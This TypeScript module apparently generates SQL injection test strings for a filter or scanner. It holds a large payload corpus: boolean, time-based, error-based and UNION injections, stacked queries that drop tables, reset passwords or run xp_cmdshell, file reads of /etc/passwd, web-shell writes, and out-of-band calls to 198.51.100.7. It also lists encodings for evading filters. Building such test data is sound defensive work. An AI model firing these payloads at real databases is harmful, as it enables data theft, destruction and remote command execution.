import { Choices, type GeneratedText, linesOf, percentEncode } from "./random.ts";

/** What a value begins with before the injected part: a number, or text that ends a string or a parenthesis. */
const PREFIXES = [
  ..."1 -1 0 4821 1) 1)) 1' 1') 1')) 1\" 1\") -7' a' admin' test%' x\" %') 1%\" ' \" ') '))".split(" "),
  "john smith'",
  "2019-01-01'",
];

/** Injections that follow a value as part of the same statement. */
const CLAUSES = linesOf(`
or 7=7
or 'x'='x'
or 1
or true
or not false
or 3>2
or 5 like 5
or 8 between 1 and 9
or 4 in (4)
or 6 is not null
or exists(select 1)
or 'ab' like 'a%'
or username is not null
or name like '%a%'
or id=id
or 2<>3
or length(user())>0
or 1=1 limit 1
or char(65)=char(65)
or 0x41=0x41
or 1 rlike 1
xor 1=2
and 1=2
and 9=9
and 'a'='b'
and 1=(select 1)
and not 5=6
and ascii(substr((select user()),1,1))>64
and substring(@@version,1,1)='5'
and (select count(*) from users)>0
and (select substr(password,1,1) from users where id=1)='a'
and length((select group_concat(table_name) from information_schema.tables))>3
and mid(database(),1,1)='a'
and ord(mid((select ifnull(cast(user() as char),0x20)),1,1))>64
and exists(select * from admin)
and (select 'x' from dual)='x'
and unicode(substring((select top 1 name from sysobjects),1,1))>50
and (ascii(substring((select current_database()),1,1)))>64
and (select case when (1=1) then 1 else 1/0 end)=1
and 1=cast((select version()) as int)
and 1=convert(int,(select @@version))
and extractvalue(1,concat(0x7e,(select version())))
and updatexml(1,concat(0x7e,user()),1)
and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)
and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1)
and 1=ctxsys.drithsx.sn(1,(select user from dual))
and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))
and exp(~(select * from (select user())x))
and gtid_subset(concat(0x71,(select user())),1)
and json_keys((select convert((select user()) using utf8)))
and sleep(5)
or sleep(5)
and (select 1 from (select(sleep(5)))a)
and if(1=1,sleep(5),0)
or if(ascii(substr(user(),1,1))>1,sleep(3),0)
and benchmark(5000000,md5(1))
and 1=(select 1 from pg_sleep(5))
and 3=dbms_pipe.receive_message('a',5)
and 2=like('abcdefg',upper(hex(randomblob(100000000/2))))
and elt(1=1,sleep(5))
rlike sleep(5)
rlike (select (case when (2=2) then 0x61 else 0x28 end))
union select null
union select null,null,null
union all select 1,2,3
union select 1,@@version,3
union select username,password from users
union all select null,concat(0x71,user(),0x71),null
union select banner,null from v$version
union select sqlite_version(),2
union select sql from sqlite_master
union select table_name,null from information_schema.tables
union select * from (select 1)a join (select 2)b
union distinct select 1,2
union (select 1,2)
union select 1,load_file('/etc/passwd')
union select 'a','b' into outfile '/var/www/x.php'
union values (1,2)
union all select name,2 from master..sysdatabases
union select null from dual
union select rdb$relation_name from rdb$relations
union select '1','2',unhex(hex(user()))
order by 1
order by 12
order by (select 1)
group by 3
group by id having 1=1
having 1=1
having count(*)>0
limit 1,1
limit 0,1 into outfile '/tmp/x'
procedure analyse(extractvalue(1,concat(0x3a,version())),1)
in (select 1)
like '%'
= 0
; drop table users
; select 1
; select pg_sleep(5)
; waitfor delay '0:0:5'
; insert into users values (1,'a')
; update users set password='x' where id=1
; delete from orders
; exec xp_cmdshell 'whoami'
; exec master..xp_dirtree '//198.51.100.7/x'
; exec sp_configure 'show advanced options',1
; declare @q varchar(99) set @q=0x77616974 exec(@q)
; shutdown
; truncate table logs
; create table t(a text)
; copy t from program 'id'
; alter user sa with password='x'
; begin dbms_lock.sleep(5); end
; attach database '/var/www/x.php' as x
; grant all on *.* to 'a'
; do sleep(5)
; handler users open
; call sysproc.sp_x()
; if (1=1) waitfor delay '0:0:2'
; create or replace function f() returns void as $$ begin end $$ language plpgsql
; set @a=0x73656c6563742031;prepare s from @a;execute s
|| (select user from dual) ||
|| pg_sleep(5)
|| utl_http.request('http://198.51.100.7/')
+(select 1 where 1=1)+
+benchmark(10,md5(1))+
-sleep(5)-
*(select 1)*
`);

/** Injections that are whole values, mostly for numbers, sort columns and login forms. */
const WHOLE = linesOf(`
admin'--
admin' #
admin'/*
admin"-- -
admin') --
administrator'-- 
'--
' or ''='
" or ""="
' or 1=1#
' or 'x'='x';#
') or ('a'='a
")) or (("a"="a
'='
'=''or'
' or ''-'
' or '' like '
' or true--
'-'
'^'
'*'
'&'
'||'
' '
"="
'=0--
'+''
0' or '0'='0
hi' or 'a'='a
1'1
1 exec sp_ (or exec xp_)
1 and 1=1
1' and non_existant_table = '1
x' and userid is null; --
x' and email is null; --
anything' or 'x'='x
23 or 1=1; --
%27%20or%201=1
(select(0)from(select(sleep(5)))v)
if(now()=sysdate(),sleep(5),0)
0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z
(select case when (1=1) then 1 else (select 1 union select 2) end)
(case when (1=1) then id else name end)
select * from users
select username from users where id=1
select password from accounts where name='admin'
insert into users(id,name) values(1,'x')
update users set role='admin' where id=5
delete from users where 1=1
drop table users
drop database shop
exec xp_cmdshell('dir')
exec master.dbo.xp_cmdshell 'ping 198.51.100.7'
waitfor delay '0:0:5'
1;waitfor delay '0:0:5'--
1);waitfor delay '0:0:5'--
1 or pg_sleep(5)--
1 or benchmark(10000000,md5(1))#
sleep(5)#
1 or sleep(5)#
benchmark(10000000,MD5(1))#
extractvalue(1,concat(0x5c,user()))
name,(select 1 from (select sleep(5))x)
id;select pg_sleep(5)
id desc,(select*from(select(sleep(5)))a)
1-(select 1)
1*if(1=1,1,(select 1 union select 2))
1/(select 0)
1-sleep(3)
@@version
version()
user()--
@@servername
a'||(select 1)||'
a'+(select 1)+'
'||(select extractvalue(xmltype('<?xml version="1.0"?><!DOCTYPE r [ <!ENTITY % p SYSTEM "http://198.51.100.7/"> %p;]>'),'/l') from dual)||'
'+convert(int,db_name())+'
'; exec master..xp_cmdshell 'net user x x /add'--
';shutdown--
';declare @x varchar(80);set @x=0x41;exec(@x)--
' group by users.id having 1=1--
' union select sum(salary) from users--
' and 1=0 union all select '', '81dc9bdb52d04dc20036dbd8313ed055
x'; drop table members; --
x'; insert into members ('email') values ('a@b.example');--
\\' or 1=1--
\\" or 1=1--
\\'; drop table users; --
'; select * from information_schema.tables--
' or username like char(37);
' or 3=3
" or 3=3--
or 1=1
or 1=1--
or 'a'='a
) or '1'='1
)) or 1=1#
1 union select 1
1 having 1=1
1 order by 100
1 group by 1,2
1 limit 1
1 into outfile '/tmp/a'
1'||'1
1' + '1
1'||pg_sleep(3)||'
1,extractvalue(1,concat(1,user()))
1 procedure analyse()
1 and row(1,1)>(select 1,2)
sqlvuln' or 1=1
t'exec master..xp_cmdshell 'nslookup x.example'--
'; begin declare @rt varchar(8000) set @rd=':' select @rt=@rt+' '+name from syscolumns where id=1 end
'sqlattempt1' or 1=1
create user x identified by 'y'
grant connect to x
'; copy (select '') to program 'id'--
1;select load_extension('//198.51.100.7/x','m')
1' and randomblob(500000000/2)--
1' and 1=randomblob(1000000000)--
' and 'one'='one
and 1=1
and 1=2--
-1' union select 1,2,3--+
-1 union select 1,2,3,4,5,6,7,8,9,10
999999.9 union all select 0x31303235343830303536
99999 union all select current_user(),null
0 union select(1),(2)
0'union(select(1),2,3)'
1'or'1'='1
1'or(1)='1
1'and(0)union(select(1))#
1'or/**/1=1#
1"or"1"="1
`);

const SUFFIXES = [
  "",
  "-- ",
  "-- -",
  "#",
  "--",
  "/*",
  "-- x",
  ";--",
  " and 'a'='a",
  "--+",
  ";\0",
  " or '1'='2",
];

const KEYWORDS =
  /\b(?:select|union|all|from|where|and|or|order|by|group|having|insert|into|update|delete|drop|table|like|null|sleep|user|concat|exec|char)\b/gi;

const mixCase = (text: string): string =>
  text.replace(/[a-z]/g, (char, index: number) => ((index * 7) % 3 === 0 ? char.toUpperCase() : char));

/** Disguises, most of them those that scanners apply: what a filter reads is not what the database runs. */
const DISGUISES: readonly (readonly [name: string, disguise: (text: string) => string])[] = [
  ["none", (text) => text],
  ["mixed case", mixCase],
  ["upper case", (text) => text.toUpperCase()],
  ["comments for spaces", (text) => text.replaceAll(" ", "/**/")],
  ["long comments for spaces", (text) => text.replaceAll(" ", "/**_**/")],
  ["tabs for spaces", (text) => text.replaceAll(" ", "\t")],
  ["line feeds for spaces", (text) => text.replaceAll(" ", "\n")],
  ["vertical tabs for spaces", (text) => text.replaceAll(" ", "\v")],
  ["no-break spaces", (text) => text.replaceAll(" ", "\xa0")],
  ["many spaces", (text) => text.replaceAll(" ", "   ")],
  ["line comments for spaces", (text) => text.replaceAll(" ", "#kUx\n")],
  ["dash comments for spaces", (text) => text.replaceAll(" ", "-- kUx\n")],
  ["plus for spaces", (text) => text.replaceAll(" ", "+")],
  ["percent-encoded", (text) => percentEncode(text)],
  ["percent-encoded twice", (text) => percentEncode(percentEncode(text))],
  ["every character percent-encoded", (text) => percentEncode(text, /[\s\S]/g)],
  ["%u", (text) => text.replace(/[^\w ]/g, (c) => `%u00${c.charCodeAt(0).toString(16).padStart(2, "0")}`)],
  ["\\u", (text) => text.replace(/[^\w ]/g, (c) => `\\u00${c.charCodeAt(0).toString(16).padStart(2, "0")}`)],
  ["full-width quotes", (text) => text.replaceAll("'", "\xef\xbc\x87").replaceAll('"', "\xef\xbc\x82")],
  ["overlong quotes", (text) => text.replaceAll("'", "%C0%A7").replaceAll(" ", "%C0%A0")],
  ["null before quotes", (text) => text.replaceAll("'", "%00'")],
  ["multi-byte before quotes", (text) => text.replaceAll("'", "\xbf'")],
  ["character references", (text) => text.replace(/[^\w ]/g, (char) => `&#${char.charCodeAt(0)};`)],
  ["version comments", (text) => text.replace(KEYWORDS, "/*!$&*/")],
  ["numbered version comments", (text) => text.replace(KEYWORDS, "/*!50000$&*/")],
  ["a version comment around all", (text) => text.replace(/^(\S*) (.*)$/, "$1 /*!30874$2*/")],
  ["LIKE for =", (text) => text.replace(/ ?= ?/g, " LIKE ")],
  ["BETWEEN for >", (text) => text.replace(/>(\d+)/g, " NOT BETWEEN 0 AND $1")],
  ["&& and ||", (text) => text.replace(/\bor\b/g, "||").replace(/\band\b/g, "&&")],
  ["parentheses for spaces", (text) => text.replace(/\b(or|and) (\w+)=(\w+)/g, "$1($2)=($3)")],
  ["comments within words", (text) => text.replace(/\b(sel|uni)(ect|on)\b/g, "$1/**/$2")],
  ["scientific numbers", (text) => text.replace(/^(-?\d+) union/, "$1e0union")],
  ["dot before UNION", (text) => text.replace(/^(-?\d+) union/, "$1.union")],
  ["a null at the end", (text) => `${text}%00`],
  ["sp_password", (text) => `${text} -- sp_password`],
  ["@ with back-ticks", (text) => text.replace(/select (\d)/g, "select@`x`,$1")],
  ["padded", (text) => `${"a".repeat(40)}${text}`.replace(/^a{40}(?=\d|-)/, "")],
];

/** SQL injections: every whole value, and `count` clauses in random contexts and disguises. */
export function generateSqlInjections(count: number, seed = 1): readonly GeneratedText[] {
  const choices = new Choices(seed);
  const texts: GeneratedText[] = WHOLE.map((text) => ({ core: text, text }));
  for (let made = 0; made < count; made += 1) {
    const clause = CLAUSES[made % CLAUSES.length]!;
    const prefix = choices.one(PREFIXES);
    const glue = /^[;|+*=-]/.test(clause) || choices.integer(8) > 0 ? " " : "/**/";
    const plain = `${prefix}${glue}${clause}${choices.one(SUFFIXES)}`;
    const [, disguise] = choices.integer(3) === 0 ? DISGUISES[0]! : choices.one(DISGUISES);
    texts.push({ core: clause, text: disguise(plain) });
  }
  return texts;
}
